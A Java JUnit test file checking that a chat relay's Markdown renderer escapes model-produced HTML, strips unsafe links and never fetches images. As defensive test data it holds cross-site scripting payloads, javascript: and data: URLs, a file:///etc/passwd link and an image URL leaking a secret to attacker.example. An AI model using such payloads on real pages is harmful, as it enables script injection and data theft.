package org.chatrelay.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownRendererTest {
    private static final Pattern TAG = Pattern.compile("<([a-zA-Z0-9]+)([^>]*)>");
    private final MarkdownRenderer md = new MarkdownRenderer();

    @Test
    void common_markdown_becomes_html() {
        String html = md.toHtml("Some **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assertTrue(html.contains("<strong>bold</strong>"), html);
        assertTrue(html.contains("<code>code</code>"), html);
        assertTrue(html.contains("<li>one</li>"), html);
        assertTrue(html.contains("<table>") && html.contains("<td>2</td>"), html);
    }

    @ParameterizedTest
    @ValueSource(strings = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            "text <iframe src=//evil.example></iframe>", "<div>\n<script>alert(1)</script>\n</div>"})
    void raw_html_in_model_output_is_escaped_text(String evil) {
        String html = md.toHtml(evil);
        assertOnlyKnownTags(html);
        assertFalse(html.contains("<script") || html.contains("<img") || html.contains("<svg") || html.contains("<iframe"), html);
        assertTrue(html.contains("&lt;"), "shown as text: " + html);
    }

    @ParameterizedTest
    @ValueSource(strings = {"javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)", "/api/chat", "//evil.example/x", "file:///etc/passwd"})
    void links_other_than_http_and_mailto_lose_their_target_and_keep_their_text(String url) {
        String html = md.toHtml("[click me](" + url.replace(" ", "%20") + ") and <" + url.strip() + ">");
        assertFalse(html.contains("<a"), html);
        assertTrue(html.contains("click me"), html);
    }

    @Test
    void allowed_links_open_without_referrer_or_opener() {
        String html = md.toHtml("[docs](https://example.org/a?b=1&c=2 \"Title\") [mail](mailto:a@example.org) <http://example.org>");
        assertTrue(html.contains("<a href=\"https://example.org/a?b=1&amp;c=2\" title=\"Title\" rel=\"noopener noreferrer\" target=\"_blank\">docs</a>"), html);
        assertTrue(html.contains("<a href=\"mailto:a@example.org\" rel=\"noopener noreferrer\" target=\"_blank\">mail</a>"), html);
        assertTrue(html.contains("href=\"http://example.org\""), html);
        Matcher m = Pattern.compile("<a [^>]*>").matcher(html);
        while (m.find()) {
            assertTrue(m.group().contains("rel=\"noopener noreferrer\""), m.group());
        }
    }

    @Test
    void an_image_is_never_fetched_it_becomes_text() {
        String html = md.toHtml("![the secret](https://attacker.example/p?d=SECRET) ![x](javascript:alert(1))");
        assertFalse(html.contains("<img"), html);
        assertFalse(html.contains("src="), html);
        assertTrue(html.contains("[image: the secret] https://attacker.example/p?d=SECRET"), html);
        assertFalse(html.contains("javascript:"), "a forbidden image URL is not even shown: " + html);
    }

    @Test
    void code_blocks_get_a_copy_button_and_a_safe_language_class() {
        String html = md.toHtml("```java\nint x = 1 < 2;\n```\n\n```\" onmouseover=alert(1)\nplain\n```\n\n    indented\n");
        assertTrue(html.contains("<span class=\"code-lang\">java</span><button type=\"button\" class=\"copy-code\">Copy code</button>"), html);
        assertTrue(html.contains("<code class=\"language-java\">int x = 1 &lt; 2;\n</code>"), html);
        assertFalse(html.contains("onmouseover=alert"), "a hostile info string never becomes an attribute: " + html);
        assertEquals(3, html.split("class=\"code-block\"", -1).length - 1, html);
        assertOnlyKnownTags(html);
    }

    @Test
    void headings_sit_below_the_pages_own() {
        assertTrue(md.toHtml("# Title").contains("<h3>Title</h3>"));
        assertTrue(md.toHtml("##### Deep").contains("<h6>Deep</h6>"));
    }

    @Test
    void pathological_nesting_falls_back_to_escaped_text() {
        String deep = ">".repeat(50_000) + " <b>x</b>";
        String html = md.toHtml(deep);
        assertFalse(html.contains("<b>"), "still escaped");
        assertEquals("", md.toHtml(""));
        assertEquals("", md.toHtml(null));
    }

    /** Every tag and attribute the renderer may emit; anything else would be a leak of model-controlled markup. */
    private static void assertOnlyKnownTags(String html) {
        Matcher m = TAG.matcher(html);
        while (m.find()) {
            String tag = m.group(1).toLowerCase();
            assertTrue(java.util.Set.of("p", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "h3", "h4", "h5",
                    "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button").contains(tag), "unexpected <" + tag + "> in " + html);
            String attrs = m.group(2);
            assertFalse(attrs.matches("(?is).*\\bon[a-z]+\\s*=.*"), "an event handler attribute in " + m.group());
            assertFalse(attrs.contains("style="), m.group());
        }
    }
}
